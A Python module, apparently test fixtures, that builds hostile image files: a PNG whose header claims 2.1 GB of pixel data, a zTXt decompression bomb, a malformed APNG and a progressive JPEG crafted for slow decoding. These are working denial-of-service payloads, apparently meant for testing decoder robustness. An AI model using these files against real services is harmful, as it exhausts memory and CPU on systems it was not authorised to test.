"""Makers of images that were made to hurt a decoder."""

import struct
import zlib

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return one PNG chunk with its length and checksum."""
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def make_png(
    width: int, height: int, *, depth: int = 8, colour: int = 0, idat: bytes = b"", before=b""
) -> bytes:
    """Return a PNG with any header, any compressed pixels and any chunks before them."""
    header = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG_SIGNATURE + header + before + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def make_flat_png(width: int, height: int) -> bytes:
    """Return a black 1-bit PNG: a few kilobytes for any size."""
    compressor = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    rows = max(1, (1 << 20) // len(row))
    pieces = []
    for start in range(0, height, rows):
        pieces.append(compressor.compress(row * min(rows, height - start)))
    idat = b"".join([*pieces, compressor.flush()])
    return make_png(width, height, depth=1, idat=idat)


def make_lying_png() -> bytes:
    """Return the 46 bytes that claim 2.1 GB of pixel data; OpenCV allocates them."""
    header = chunk(b"IHDR", struct.pack("!IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
    content = PNG_SIGNATURE + header + struct.pack("!I", 0x7F4C4B4A) + b"IDAT" + b"\x78\x9c\x01\0\0"
    assert len(content) == 46
    return content


def make_text_bomb() -> bytes:
    """Return a small PNG with a comment that inflates to 200 MB."""
    text = zlib.compress(bytes(200 << 20), 9)
    idat = zlib.compress(bytes(9 * 8))
    return make_png(8, 8, idat=idat, before=chunk(b"zTXt", b"Comment\0\0" + text))


def make_broken_apng() -> bytes:
    """Return an APNG whose frame is larger than its canvas and comes without a control chunk."""
    control = chunk(b"acTL", struct.pack("!II", 0xFFFFFFFF, 0))
    frame = struct.pack("!IIIIIHHBB", 0, 70_000, 70_000, 1 << 31, 1 << 31, 0, 0, 9, 9)
    idat = zlib.compress(bytes(9 * 8))
    data = chunk(b"fdAT", struct.pack("!I", 1) + idat)
    return make_png(8, 8, idat=idat, before=control + chunk(b"fcTL", frame) + data)


def make_slow_jpeg(scans: int, side: int = 4096) -> bytes:
    """Return a grey progressive JPEG of `scans` scans without content, 40 bytes each.

    The decoder walks all blocks of the picture once a scan: milliseconds for 40 bytes.
    """

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack("!BBH", 0xFF, marker, len(data) + 2) + data

    def table(kind: int, symbol: int) -> bytes:  # one symbol, coded as the bit 0
        return segment(0xC4, bytes([kind, 1, *([0] * 15), symbol]))

    def pack(bits: str) -> bytes:
        bits += "1" * (-len(bits) % 8)
        data = int(bits, 2).to_bytes(len(bits) // 8, "big")
        return data.replace(b"\xff", b"\xff\0")

    blocks = (side // 8) ** 2
    run = "0" + "1" * 14  # an end-of-band run of 2^15 - 1 blocks
    empty = pack(run * (blocks // 32767 + 1))
    scan = segment(0xDA, bytes([1, 1, 0x00, 1, 63, 0])) + empty
    return b"".join(
        [
            b"\xff\xd8",
            segment(0xDB, bytes([0]) + bytes([1] * 64)),
            segment(0xC2, struct.pack("!BHHBBBB", 8, side, side, 1, 1, 0x11, 0)),
            table(0x00, 0),  # DC: the difference is zero
            table(0x10, 0xE0),  # AC: the run above
            segment(0xDA, bytes([1, 1, 0x00, 0, 0, 0])) + pack("0" * blocks),
            scan * scans,
            b"\xff\xd9",
        ]
    )
